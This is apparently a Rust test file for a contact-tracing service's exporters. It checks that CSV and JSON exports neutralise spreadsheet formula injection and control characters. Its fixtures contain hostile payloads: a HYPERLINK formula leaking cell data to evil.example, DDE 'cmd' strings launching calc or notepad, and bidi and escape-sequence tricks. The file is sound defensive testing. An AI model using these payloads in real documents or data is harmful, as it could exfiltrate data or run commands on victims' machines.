//! Attacks, section 11. spreadsheet and control characters (docs/THREAT-MODEL.md §3).

use super::*;

/// One quoted CSV row as the exporter writes it, from already-neutralised cells.
fn csv_row(contact: &Contact, cells: [&str; 8]) -> String {
    let utc = {
        let m = u64::from(contact.minute.0) % 1440;
        format!("2026-11-29T{:02}:{:02}:00Z", m / 60, m % 60)
    };
    let table = contact.table.map(|t| t.to_string()).unwrap_or_default();
    let ids = [
        contact.user_id.to_string(),
        contact.venue_id.to_string(),
        contact.trace_id.to_string(),
        contact.minute.0.to_string(),
        utc,
        table,
    ];
    let quoted: Vec<String> =
        ids.iter().map(|c| format!("\"{c}\"")).chain(cells.iter().map(|c| c.to_string())).collect();
    format!("{}\r\n", quoted.join(","))
}

/// The JSON export parsed back: every value a string, keyed by user id.
fn json_rows(json: &str) -> BTreeMap<String, serde_json::Map<String, serde_json::Value>> {
    let value: serde_json::Value = serde_json::from_str(json).unwrap();
    value
        .as_array()
        .unwrap()
        .iter()
        .map(|row| {
            let row = row.as_object().unwrap().clone();
            assert_eq!(row.len(), export::COLUMNS.len());
            assert!(row.values().all(serde_json::Value::is_string), "every JSON value is a plain string");
            (row["user_id"].as_str().unwrap().to_owned(), row)
        })
        .collect()
}

fn field_texts(f: &ContactFields) -> [&str; 8] {
    [&f.first_name, &f.last_name, &f.phone, &f.email, &f.street, &f.house_number, &f.postcode, &f.city]
}

#[test]
fn attack_csv_formula_injection() {
    let mut t = Town::new(19);
    // Mallory registers with a spreadsheet formula in every field, within the
    // field rules (the phone allows only digits, space and `+ ( ) / -`).
    let mut evil = ContactFields::default();
    evil.first_name = r#"=HYPERLINK("http://evil.example/?"&A1,"Details")"#.into();
    evil.last_name = "=cmd|' /C calc'!A0".into();
    evil.phone = "-1+1 (0) 555/123".into();
    evil.email = "@SUM(1+1)*cmd|' /C calc'!A0".into();
    evil.street = "+cmd|' /C notepad'!A0".into();
    evil.house_number = " =1+1".into();
    evil.postcode = "＝1+1".into();
    evil.city = "\u{a0}@SUM(1)".into();
    let mut mallory = register(&mut t.rng, &mut t.server, &evil);

    // Alice and Mallory check in; Alice tests positive and is traced.
    let code = t.alice.check_in_code(&mut t.rng, &t.daily, NOW).unwrap();
    t.scan(&code.text(), NOW);
    let code = mallory.check_in_code(&mut t.rng, &t.daily, NOW.plus_secs(60)).unwrap();
    t.scan(&code.text(), NOW.plus_secs(60));
    let opened = t.trace_alice(NOW.plus_secs(HOUR));
    let contacts: Vec<Contact> = opened.check_ins.iter().map(|c| t.contact(c).unwrap()).collect();
    assert_eq!(contacts.len(), 2);
    let alice = contacts.iter().find(|c| c.user_id == t.alice.user_id()).unwrap();
    let evil_contact = contacts.iter().find(|c| c.user_id == mallory.user_id()).unwrap();
    assert_eq!(evil_contact.fields, evil, "the payloads arrive intact: neutralising is the exporter's job");

    // CSV: every field quoted, quotes doubled, and every field whose first
    // (visible) character starts a formula prefixed with a single quote.
    let csv = export::to_csv(&contacts);
    let header = format!("{}\r\n", export::COLUMNS.map(|c| format!("\"{c}\"")).join(","));
    let alice_row = csv_row(
        alice,
        [
            "\"Erika\"",
            "\"Mustermann\"",
            "\"'+49 30 1234567\"",
            "\"erika@example.org\"",
            "\"Heidestraße\"",
            "\"17\"",
            "\"51147\"",
            "\"Köln\"",
        ],
    );
    let evil_row = csv_row(
        evil_contact,
        [
            r#""'=HYPERLINK(""http://evil.example/?""&A1,""Details"")""#,
            r#""'=cmd|' /C calc'!A0""#,
            r#""'-1+1 (0) 555/123""#,
            r#""'@SUM(1+1)*cmd|' /C calc'!A0""#,
            r#""'+cmd|' /C notepad'!A0""#,
            r#""' =1+1""#,
            "\"'＝1+1\"",
            "\"'\u{a0}@SUM(1)\"",
        ],
    );
    assert_eq!(csv, format!("{header}{alice_row}{evil_row}"));

    // JSON: plain string values, exactly the fields' text, escaped.
    let json = export::to_json(&contacts);
    assert!(json.contains(r#""first_name":"=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")""#));
    let rows = json_rows(&json);
    let row = &rows[&mallory.user_id().to_string()];
    for (column, text) in export::COLUMNS[6..].iter().zip(field_texts(&evil)) {
        assert_eq!(row[*column], serde_json::Value::String(text.to_owned()), "{column}");
    }
    assert_eq!(row["trace_id"], serde_json::Value::String(code.trace_id.to_string()));
    assert_eq!(rows.len(), 2);
}

/// Characters the field rules forbid, of every kind: C0 and C1 controls, DEL, the bidi controls, the
/// byte-order mark, the line and paragraph separators and other invisible format characters (zero-width
/// space, soft hyphen, word joiner, a tag character).
const FORBIDDEN: [char; 23] = [
    '\0',
    '\t',
    '\n',
    '\r',
    '\u{1b}',
    '\u{7f}',
    '\u{85}',
    '\u{9f}',
    '\u{61c}',
    '\u{200e}',
    '\u{200f}',
    '\u{202a}',
    '\u{202e}',
    '\u{2066}',
    '\u{2069}',
    '\u{feff}',
    '\u{1f}',
    '\u{2028}',
    '\u{2029}',
    '\u{200b}',
    '\u{ad}',
    '\u{2060}',
    '\u{e0041}',
];

#[test]
fn attack_control_characters_in_contact_fields() {
    let mut t = Town::new(20);
    let base = fields("Erika", "Mustermann", "+49 30 1234567");
    let names = ["first_name", "last_name", "phone", "email", "street", "house_number", "postcode", "city"];

    // (a) Every field, every forbidden character: refused when sealing, at
    // registration and on update; nothing is produced.
    for (i, field) in names.iter().enumerate() {
        for c in FORBIDDEN {
            let mut f = base.clone();
            let value = if *field == "phone" { format!("+49 30{c}1234567") } else { format!("Er{c}ika") };
            match i {
                0 => f.first_name = value,
                1 => f.last_name = value,
                2 => f.phone = value,
                3 => f.email = value,
                4 => f.street = value,
                5 => f.house_number = value,
                6 => f.postcode = value,
                _ => f.city = value,
            }
            // The phone rule (its alphabet) refuses the character before the character rule would.
            let problem = if *field == "phone" {
                FieldProblem::NotAPhoneNumber
            } else {
                FieldProblem::ForbiddenCharacter { code_point: u32::from(c) }
            };
            let want = ClientError::InvalidContactField(ContactFieldError { field, problem });
            assert_eq!(t.alice.update_contact_data(&mut t.rng, &f, NOW).unwrap_err(), want, "{field} {c:?}");
            if c == '\u{202e}' {
                assert_eq!(Guest::register(&mut t.rng, &f, DeviceType::Ios, NOW).unwrap_err(), want);
            }
        }
    }
    // Names elsewhere: the guest name sent to a private meeting's host, a
    // meeting's name, a venue's name, a health office's name.
    let ScannedVenue::PrivateMeeting(meeting) = Guest::scan_venue_qr(&t.meeting_url, &t.registrar_cert, NOW).unwrap()
    else {
        panic!("the meeting's QR scans as a meeting");
    };
    let before = t.alice.check_ins();
    for c in FORBIDDEN {
        let name = format!("Erika{c}Mustermann");
        let err = t.alice.check_in_private_meeting(&mut t.rng, &meeting, &t.daily, &name, NOW).unwrap_err();
        assert_eq!(err, ClientError::Invalid(DecodeError::InvalidField { field: "guest_name" }), "{c:?}");
    }
    assert_eq!(t.alice.check_ins(), before, "no check-in was made");
    let validity = Validity { not_before: NOW, not_after: NOW.plus_secs(HOUR) };
    let err = PrivateMeetingHost::new(&mut t.rng, "Party\r\n=cmd", validity).unwrap_err();
    assert_eq!(err, MeetingError::InvalidName);
    let request = t.venue.registration_request("Café\u{1b}[2J", None);
    assert_eq!(request.validate().unwrap_err(), DecodeError::InvalidField { field: "name" });
    let err = t.registrar.register_venue(request.venue_id, &request.name, &request.venue_key, None, validity);
    assert_eq!(err.unwrap_err().kind(), "invalid_field");
    assert_eq!(t.office_a.certificate_request("Amt\u{7f}").unwrap_err().kind(), "invalid_field");

    // (b) A malicious app bypasses the sealing checks: it encrypts and signs
    // its own plaintext exactly as the protocol prescribes. The server cannot
    // see inside and stores it; the health office checks the field rules
    // after decryption and refuses the contact.
    let (user_id, data_secret) = (UserId::random(&mut t.rng), DataSecret::random(&mut t.rng));
    let key = GuestSigningKey::generate(&mut t.rng);
    let texts = ["\r\n=cmd|' /C calc'!A0", "\u{202e}nnam", "+31 20 9999", "", "", "", "", ""];
    let crafted = craft_contact_data(7, &key, user_id, &data_secret, texts, NOW);
    t.server.contact_data(&crafted).unwrap();
    let minute = NOW.plus_secs(120).minute();
    let tracing = DailyTracingSecret::random(&mut t.rng);
    let trace_id = derive::guest_trace_id(&tracing, &user_id, minute);
    let flags = QrFlags { device_type: DeviceType::WebApp, entry_policy: 0 };
    let key_id = t.daily.daily_key_id().unwrap();
    let qr = GuestCheckInQr::seal(
        &mut t.rng,
        key_id,
        &t.daily.public_key(),
        flags,
        minute,
        trace_id,
        &user_id,
        &data_secret,
    );
    t.scan(&qr.unwrap().to_base32(), minute.start());

    // (c) Eve registers through the app with what the rules allow: the
    // zero-width non-joiner and joiner, no-break and ideographic spaces, in
    // front of formulas.
    let mut eve_fields = ContactFields::default();
    eve_fields.first_name = "\u{200c}=cmd|' /C calc'!A0".into();
    eve_fields.last_name = "\u{3000}-1+1".into();
    eve_fields.phone = "+49 30 7654321".into();
    eve_fields.email = "eve\u{200d}@example.org".into();
    eve_fields.street = "\u{a0}\u{200d}=SUM(1)".into();
    eve_fields.house_number = "1\u{200c}2".into();
    eve_fields.postcode = "\u{3000}+1".into();
    eve_fields.city = "Köln\u{200d}".into();
    let mut eve = register(&mut t.rng, &mut t.server, &eve_fields);

    let code = t.alice.check_in_code(&mut t.rng, &t.daily, NOW).unwrap();
    t.scan(&code.text(), NOW);
    let code = eve.check_in_code(&mut t.rng, &t.daily, NOW.plus_secs(60)).unwrap();
    t.scan(&code.text(), NOW.plus_secs(60));
    let opened = t.trace_alice(NOW.plus_secs(HOUR));
    assert_eq!(opened.check_ins.len(), 3);
    let mut contacts = Vec::new();
    for check_in in &opened.check_ins {
        match t.contact(check_in) {
            Ok(contact) => contacts.push(contact),
            Err(err) => {
                assert_eq!(check_in.secrets.user_id, user_id, "only the crafted contact data is refused");
                assert_eq!(
                    err,
                    TracingError::Open(OpenError::Malformed(DecodeError::InvalidField { field: "first_name" }))
                );
                assert_eq!(err.kind(), "invalid_field");
            }
        }
    }
    assert_eq!(contacts.len(), 2, "Alice and Eve; the crafted contact is not in the output");

    // CSV: formula prefixes behind invisible or white space neutralised, the
    // rest (the joiners included) kept exactly.
    let csv = export::to_csv(&contacts);
    let eve_contact = contacts.iter().find(|c| c.user_id == eve.user_id()).unwrap();
    let eve_row = csv_row(
        eve_contact,
        [
            "\"'\u{200c}=cmd|' /C calc'!A0\"",
            "\"'\u{3000}-1+1\"",
            "\"'+49 30 7654321\"",
            "\"eve\u{200d}@example.org\"",
            "\"'\u{a0}\u{200d}=SUM(1)\"",
            "\"1\u{200c}2\"",
            "\"'\u{3000}+1\"",
            "\"Köln\u{200d}\"",
        ],
    );
    assert!(csv.ends_with(&eve_row), "{csv}");
    assert_eq!(csv.matches("\r\n").count(), 3, "a header and two rows");
    assert!(!csv.chars().any(|c| c.is_control() && c != '\r' && c != '\n'));
    assert!(!csv.contains(['\u{2028}', '\u{2029}']));
    for text in texts.iter().filter(|s| !s.is_empty()) {
        assert!(!csv.contains(text), "the crafted contact's data is not exported");
    }
    // JSON: the exact text, every control character escaped.
    let json = export::to_json(&contacts);
    assert!(!json.chars().any(char::is_control));
    let rows = json_rows(&json);
    let row = &rows[&eve.user_id().to_string()];
    for (column, text) in export::COLUMNS[6..].iter().zip(field_texts(&eve_fields)) {
        assert_eq!(row[*column], serde_json::Value::String(text.to_owned()), "{column}");
    }
    assert!(!rows.contains_key(&user_id.to_string()));

    // (d) The exporter does not rely on the field rules: a contact built by
    // hand with raw control characters is neutralised all the same.
    let mut raw = ContactFields::default();
    raw.first_name = "\r\n=cmd".into();
    raw.last_name = "\t=1+1".into();
    raw.phone = "\0+1".into();
    raw.email = "\u{202e}gro.elpmaxe@evil".into();
    raw.street = "\u{1b}[31mred".into();
    raw.house_number = "\u{85}1".into();
    raw.postcode = "\u{feff}=1".into();
    raw.city = "a\"b,c".into();
    let by_hand = Contact { fields: raw.clone(), ..eve_contact.clone() };
    let csv = export::to_csv(std::slice::from_ref(&by_hand));
    let row = csv_row(
        &by_hand,
        [
            "\"'\u{fffd}\u{fffd}=cmd\"",
            "\"'\u{fffd}=1+1\"",
            "\"'\u{fffd}+1\"",
            "\"\u{fffd}gro.elpmaxe@evil\"",
            "\"\u{fffd}[31mred\"",
            "\"\u{fffd}1\"",
            "\"'\u{fffd}=1\"",
            "\"a\"\"b,c\"",
        ],
    );
    assert!(csv.ends_with(&row));
    let json = export::to_json(std::slice::from_ref(&by_hand));
    assert!(!json.bytes().any(|b| b < 0x20), "JSON escapes C0 controls");
    let rows = json_rows(&json);
    for (column, text) in export::COLUMNS[6..].iter().zip(field_texts(&raw)) {
        assert_eq!(rows[&by_hand.user_id.to_string()][*column], serde_json::Value::String(text.to_owned()));
    }
}
